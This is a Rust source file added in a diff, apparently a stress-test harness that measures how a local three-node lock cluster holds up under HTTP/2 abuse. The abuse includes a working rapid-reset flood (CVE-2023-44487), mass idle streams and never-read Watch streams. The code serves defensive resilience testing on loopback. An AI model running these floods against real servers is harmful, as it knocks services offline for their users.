@@ -1,0 +1,504 @@
+//! `tenure-jepsen abuse`: HTTP/2 abuse against a real three-node cluster (loopback, auth on)
+//! while honest clients run lock cycles. Each phase measures the honest clients' throughput
+//! and p99 and every node's resident memory:
+//!
+//! - `quiet`: honest clients alone, the baseline;
+//! - `rapid-reset`: clients without a token open streams and cancel them at once, as fast as
+//!   they can, on several connections (CVE-2023-44487), reconnecting whenever a node closes
+//!   one;
+//! - `idle-streams`: a principal with a valid client token opens 10,000 calls and never sends
+//!   their bodies;
+//! - `slow-watch`: a principal with a valid client token opens Watch streams over every
+//!   resource from revision 0 and never reads them.
+//!
+//! The attack runs on a thread of its own at nice 19, standing in for a machine of its own:
+//! on a 2-core box it would otherwise take CPU from the nodes by being there, whatever the
+//! nodes do. The targets: honest throughput at least 80 % of the quiet baseline, and no node's
+//! memory past twice its quiet size.
+
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use anyhow::{Context, Result};
+use bytes::Bytes;
+use hdrhistogram::Histogram;
+use prost::Message;
+use tenure_client::{pb, prost_duration, release_request, Client};
+
+use crate::bench::cluster::{await_ready, LocalCluster, System};
+
+/// What a run does.
+pub struct AbuseOptions {
+    pub tenured: PathBuf,
+    pub out_dir: PathBuf,
+    /// Length of each phase.
+    pub phase: Duration,
+    /// Honest clients running lock cycles throughout.
+    pub honest: usize,
+    /// Connections the rapid-reset attack uses at once.
+    pub reset_connections: usize,
+    /// Calls the idle-streams attack opens.
+    pub idle_streams: usize,
+    /// Watch streams the slow-watch attack opens.
+    pub slow_watchers: usize,
+}
+
+/// One phase's figures.
+#[derive(Debug, serde::Serialize)]
+pub struct Phase {
+    pub name: &'static str,
+    pub honest_ops_per_s: f64,
+    pub honest_p99_ms: f64,
+    pub honest_errors: u64,
+    /// The most each node held during the phase, in bytes, node 1 first.
+    pub rss_max: Vec<u64>,
+    /// What the attack did.
+    pub attack: String,
+}
+
+const TTL: Duration = Duration::from_secs(30);
+const ATTACKS: [&str; 3] = ["rapid-reset", "idle-streams", "slow-watch"];
+
+fn token(tag: &str) -> String {
+    use rand::Rng;
+    let bytes: [u8; 24] = rand::rng().random();
+    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
+    format!("{tag}-{hex}")
+}
+
+struct Tokens {
+    admin: String,
+    honest: String,
+    mallory: String,
+}
+
+/// The honest clients' latencies, by phase.
+struct Recorder {
+    phase: AtomicUsize,
+    latencies: Mutex<Vec<Histogram<u64>>>,
+    errors: Vec<AtomicU64>,
+}
+
+impl Recorder {
+    fn new(phases: usize) -> Self {
+        Recorder {
+            phase: AtomicUsize::new(0),
+            latencies: Mutex::new(
+                (0..phases)
+                    .map(|_| Histogram::new(3).expect("a histogram"))
+                    .collect(),
+            ),
+            errors: (0..phases).map(|_| AtomicU64::new(0)).collect(),
+        }
+    }
+
+    fn record(&self, took: Duration) {
+        let phase = self.phase.load(Ordering::Relaxed);
+        let mut latencies = self.latencies.lock().unwrap_or_else(|p| p.into_inner());
+        let _ = latencies[phase].record(took.as_micros() as u64);
+    }
+
+    fn error(&self) {
+        self.errors[self.phase.load(Ordering::Relaxed)].fetch_add(1, Ordering::Relaxed);
+    }
+}
+
+/// Lock cycles (acquire, release) on names of its own until `stop`.
+async fn honest(client: Client, id: usize, recorder: Arc<Recorder>, stop: Arc<AtomicBool>) {
+    let mut n = 0u64;
+    while !stop.load(Ordering::Relaxed) {
+        n += 1;
+        let started = Instant::now();
+        let request = pb::AcquireRequest {
+            resource: format!("honest/{id}/{}", n % 64),
+            holder: format!("h{id}"),
+            ttl: Some(prost_duration(TTL)),
+            ..Default::default()
+        };
+        let cycle = async {
+            let response = client.acquire(request).await?;
+            let lease = response
+                .lease
+                .ok_or_else(|| anyhow::anyhow!("not granted: {}", response.reason))?;
+            client.release(release_request(&lease)).await?;
+            anyhow::Ok(())
+        };
+        match cycle.await {
+            Ok(()) => recorder.record(started.elapsed()),
+            Err(_) => recorder.error(),
+        }
+    }
+}
+
+/// A gRPC request's head for `method` of `tenure.v1.Leases`, with `token` if given.
+fn head(endpoint: &str, method: &str, token: Option<&str>) -> Result<http::Request<()>> {
+    let mut request = http::Request::post(format!("http://{endpoint}/tenure.v1.Leases/{method}"))
+        .header("content-type", "application/grpc")
+        .header("te", "trailers");
+    if let Some(token) = token {
+        request = request.header("authorization", format!("Bearer {token}"));
+    }
+    Ok(request.body(())?)
+}
+
+/// An HTTP/2 connection to `endpoint` whose driver runs in the background.
+async fn connect(endpoint: &str) -> Result<h2::client::SendRequest<Bytes>> {
+    let tcp = tokio::net::TcpStream::connect(endpoint).await?;
+    tcp.set_nodelay(true)?;
+    let (client, connection) = h2::client::handshake(tcp).await?;
+    tokio::spawn(async move {
+        let _ = connection.await;
+    });
+    Ok(client)
+}
+
+/// Opens streams and cancels them at once, reconnecting when the node closes the
+/// connection, until `stop`. Counts the streams and the connections.
+async fn rapid_reset(endpoint: String, stop: Arc<AtomicBool>, streams: Arc<AtomicU64>, connections: Arc<AtomicU64>) {
+    while !stop.load(Ordering::Relaxed) {
+        let Ok(mut client) = connect(&endpoint).await else {
+            tokio::time::sleep(Duration::from_millis(10)).await;
+            continue;
+        };
+        connections.fetch_add(1, Ordering::Relaxed);
+        while !stop.load(Ordering::Relaxed) {
+            let Ok(ready) = client.ready().await else {
+                break;
+            };
+            client = ready;
+            let Ok(request) = head(&endpoint, "Acquire", None) else {
+                return;
+            };
+            match client.send_request(request, false) {
+                Ok((_response, mut body)) => {
+                    body.send_reset(h2::Reason::CANCEL);
+                    streams.fetch_add(1, Ordering::Relaxed);
+                }
+                Err(_) => break,
+            }
+            // Let the connection's driver write what was queued.
+            tokio::task::yield_now().await;
+        }
+    }
+}
+
+/// Opens `count` calls as `token`, 1,000 to a connection, and never sends their bodies;
+/// holds them until `stop`. Counts the calls the node answered (refused) meanwhile.
+async fn idle_streams(
+    endpoints: Vec<String>,
+    count: usize,
+    token: String,
+    stop: Arc<AtomicBool>,
+    opened: Arc<AtomicU64>,
+    answered: Arc<AtomicU64>,
+) {
+    let mut held = Vec::new();
+    let mut pending = futures::stream::FuturesUnordered::new();
+    for (i, chunk) in (0..count).collect::<Vec<_>>().chunks(1000).enumerate() {
+        let endpoint = &endpoints[i % endpoints.len()];
+        let Ok(mut client) = connect(endpoint).await else {
+            continue;
+        };
+        for _ in chunk {
+            if stop.load(Ordering::Relaxed) {
+                break;
+            }
+            let Ok(ready) = client.clone().ready().await else {
+                break;
+            };
+            client = ready;
+            let Ok(request) = head(endpoint, "Watch", Some(&token)) else {
+                return;
+            };
+            match client.send_request(request, false) {
+                Ok((response, body)) => {
+                    held.push(body);
+                    pending.push(response);
+                    opened.fetch_add(1, Ordering::Relaxed);
+                }
+                Err(_) => break,
+            }
+        }
+    }
+    use futures::StreamExt;
+    while !stop.load(Ordering::Relaxed) {
+        tokio::select! {
+            Some(_) = pending.next() => {
+                answered.fetch_add(1, Ordering::Relaxed);
+            }
+            () = tokio::time::sleep(Duration::from_millis(100)) => {}
+        }
+    }
+    drop(held);
+}
+
+/// Opens `count` Watch streams over every resource from revision 0 as `token`, and never
+/// reads them, until `stop`. Counts the streams the node took.
+async fn slow_watch(
+    endpoints: Vec<String>,
+    count: usize,
+    token: String,
+    stop: Arc<AtomicBool>,
+    opened: Arc<AtomicU64>,
+) {
+    let body = {
+        let message = pb::WatchRequest {
+            prefix: String::new(),
+            ..Default::default()
+        }
+        .encode_to_vec();
+        let mut framed = vec![0u8];
+        framed.extend_from_slice(&(message.len() as u32).to_be_bytes());
+        framed.extend_from_slice(&message);
+        Bytes::from(framed)
+    };
+    let mut held = Vec::new();
+    for i in 0..count {
+        let endpoint = &endpoints[i % endpoints.len()];
+        let Ok(client) = connect(endpoint).await else {
+            continue;
+        };
+        let Ok(mut client) = client.ready().await else {
+            continue;
+        };
+        let Ok(request) = head(endpoint, "Watch", Some(&token)) else {
+            return;
+        };
+        let Ok((response, mut send)) = client.send_request(request, false) else {
+            continue;
+        };
+        if send.send_data(body.clone(), true).is_err() {
+            continue;
+        }
+        // The response's head, then its body is never read: its window fills and stays full.
+        if let Ok(Ok(response)) = tokio::time::timeout(Duration::from_secs(5), response).await {
+            opened.fetch_add(1, Ordering::Relaxed);
+            held.push((client, response));
+        }
+    }
+    while !stop.load(Ordering::Relaxed) {
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    drop(held);
+}
+
+/// Runs `attack` on a thread of its own at nice 19 until `stop`; its description when done.
+fn spawn_attack(
+    attack: &'static str,
+    options: &AbuseOptions,
+    endpoints: Vec<String>,
+    mallory: String,
+    stop: Arc<AtomicBool>,
+) -> std::thread::JoinHandle<String> {
+    let (connections, idle, watchers) = (
+        options.reset_connections,
+        options.idle_streams,
+        options.slow_watchers,
+    );
+    std::thread::spawn(move || {
+        let _ = rustix::process::setpriority_process(None, 19);
+        let runtime = match tokio::runtime::Builder::new_current_thread().enable_all().build() {
+            Ok(runtime) => runtime,
+            Err(e) => return format!("no runtime: {e}"),
+        };
+        runtime.block_on(async move {
+            let (a, b) = (Arc::new(AtomicU64::new(0)), Arc::new(AtomicU64::new(0)));
+            match attack {
+                "rapid-reset" => {
+                    let tasks: Vec<_> = (0..connections)
+                        .map(|i| {
+                            tokio::spawn(rapid_reset(
+                                endpoints[i % endpoints.len()].clone(),
+                                stop.clone(),
+                                a.clone(),
+                                b.clone(),
+                            ))
+                        })
+                        .collect();
+                    for task in tasks {
+                        let _ = task.await;
+                    }
+                    format!(
+                        "{} streams opened and cancelled on {} connections",
+                        a.load(Ordering::Relaxed),
+                        b.load(Ordering::Relaxed)
+                    )
+                }
+                "idle-streams" => {
+                    idle_streams(endpoints, idle, mallory, stop, a.clone(), b.clone()).await;
+                    format!(
+                        "{} calls opened without a body, {} refused or ended by the nodes",
+                        a.load(Ordering::Relaxed),
+                        b.load(Ordering::Relaxed)
+                    )
+                }
+                _ => {
+                    slow_watch(endpoints, watchers, mallory, stop, a.clone()).await;
+                    format!(
+                        "{} Watch streams over every resource from revision 0, never read",
+                        a.load(Ordering::Relaxed)
+                    )
+                }
+            }
+        })
+    })
+}
+
+fn write_tokens(dir: &Path, tokens: &Tokens) -> Result<PathBuf> {
+    use std::os::unix::fs::PermissionsExt;
+    let path = dir.join("tokens");
+    std::fs::write(
+        &path,
+        format!(
+            "{} ops admin\n{} honest client\n{} mallory client\n{} nodes peer\n",
+            tokens.admin,
+            tokens.honest,
+            tokens.mallory,
+            token("peer")
+        ),
+    )?;
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600))?;
+    Ok(path)
+}
+
+/// Runs the phases; the figures of each.
+pub async fn run(options: &AbuseOptions) -> Result<Vec<Phase>> {
+    std::fs::create_dir_all(&options.out_dir)?;
+    let tokens = Tokens {
+        admin: token("admin"),
+        honest: token("honest"),
+        mallory: token("mallory"),
+    };
+    let token_file = write_tokens(&options.out_dir, &tokens)?;
+    let cluster = LocalCluster::start(
+        System::Tenure,
+        &options.out_dir.join("nodes"),
+        &options.tenured,
+        &[format!("--token-file={}", token_file.display())],
+    )?;
+    let endpoints = cluster.endpoints.clone();
+    let admin = Client::new(&endpoints)?.with_token(&tokens.admin)?;
+    await_ready("a leader", Duration::from_secs(30), || {
+        let admin = admin.clone();
+        async move {
+            let status = admin.node_status(0).await?;
+            anyhow::ensure!(status.leader_id != 0, "no leader yet");
+            Ok(())
+        }
+    })
+    .await?;
+
+    let names: Vec<&'static str> = std::iter::once("quiet").chain(ATTACKS).collect();
+    let recorder = Arc::new(Recorder::new(names.len()));
+    let stop_honest = Arc::new(AtomicBool::new(false));
+    let mut workers = Vec::new();
+    for id in 0..options.honest {
+        let client = Client::new(&endpoints)?.with_token(&tokens.honest)?;
+        workers.push(tokio::spawn(honest(
+            client,
+            id,
+            recorder.clone(),
+            stop_honest.clone(),
+        )));
+    }
+    // Warm up before the baseline.
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    recorder.latencies.lock().unwrap_or_else(|p| p.into_inner())[0].reset();
+
+    let mut phases = Vec::new();
+    for (index, name) in names.iter().enumerate() {
+        recorder.phase.store(index, Ordering::Relaxed);
+        let stop = Arc::new(AtomicBool::new(false));
+        let attack = (index > 0).then(|| {
+            spawn_attack(
+                name,
+                options,
+                endpoints.clone(),
+                tokens.mallory.clone(),
+                stop.clone(),
+            )
+        });
+        let started = Instant::now();
+        let mut rss_max = vec![0u64; endpoints.len()];
+        while started.elapsed() < options.phase {
+            tokio::time::sleep(Duration::from_millis(250)).await;
+            for (max, rss) in rss_max.iter_mut().zip(cluster.rss_bytes()) {
+                *max = (*max).max(rss);
+            }
+        }
+        let elapsed = started.elapsed();
+        stop.store(true, Ordering::Relaxed);
+        let attack = match attack {
+            Some(thread) => tokio::task::spawn_blocking(move || thread.join())
+                .await?
+                .unwrap_or_else(|_| "the attack panicked".into()),
+            None => "none".into(),
+        };
+        let (count, p99) = {
+            let latencies = recorder.latencies.lock().unwrap_or_else(|p| p.into_inner());
+            let histogram = &latencies[index];
+            (histogram.len(), histogram.value_at_quantile(0.99) as f64 / 1000.0)
+        };
+        let phase = Phase {
+            name,
+            honest_ops_per_s: count as f64 / elapsed.as_secs_f64(),
+            honest_p99_ms: p99,
+            honest_errors: recorder.errors[index].load(Ordering::Relaxed),
+            rss_max,
+            attack,
+        };
+        tracing::info!(?phase, "phase done");
+        phases.push(phase);
+        // Let the nodes settle (closed connections, freed streams) before the next phase.
+        tokio::time::sleep(Duration::from_secs(2)).await;
+    }
+    stop_honest.store(true, Ordering::Relaxed);
+    for worker in workers {
+        let _ = worker.await;
+    }
+    drop(cluster);
+    let json = serde_json::to_string_pretty(&phases)?;
+    std::fs::write(options.out_dir.join("abuse.json"), json)
+        .context("writing abuse.json")?;
+    Ok(phases)
+}
+
+/// The phases as a Markdown table, each attack against the quiet baseline; and whether every
+/// attack met the targets.
+pub fn table(phases: &[Phase]) -> (String, bool) {
+    let Some(quiet) = phases.first() else {
+        return (String::new(), false);
+    };
+    let mib = |bytes: u64| bytes as f64 / (1024.0 * 1024.0);
+    let mut met = true;
+    let mut text = String::from(
+        "| phase | honest ops/s | vs quiet | honest p99 ms | errors | max RSS per node (MiB) | vs quiet | target | attack |\n|---|---|---|---|---|---|---|---|---|\n",
+    );
+    for phase in phases {
+        let throughput = phase.honest_ops_per_s / quiet.honest_ops_per_s.max(f64::EPSILON);
+        let memory = phase
+            .rss_max
+            .iter()
+            .zip(&quiet.rss_max)
+            .map(|(now, before)| *now as f64 / (*before).max(1) as f64)
+            .fold(0.0, f64::max);
+        let ok = throughput >= 0.8 && memory <= 2.0;
+        met &= ok;
+        let rss: Vec<String> = phase.rss_max.iter().map(|b| format!("{:.0}", mib(*b))).collect();
+        text.push_str(&format!(
+            "| {} | {:.0} | {:.0} % | {:.1} | {} | {} | {:.2}× | {} | {} |\n",
+            phase.name,
+            phase.honest_ops_per_s,
+            throughput * 100.0,
+            phase.honest_p99_ms,
+            phase.honest_errors,
+            rss.join(" / "),
+            memory,
+            if ok { "met" } else { "MISSED" },
+            phase.attack
+        ));
+    }
+    (text, met)
+}
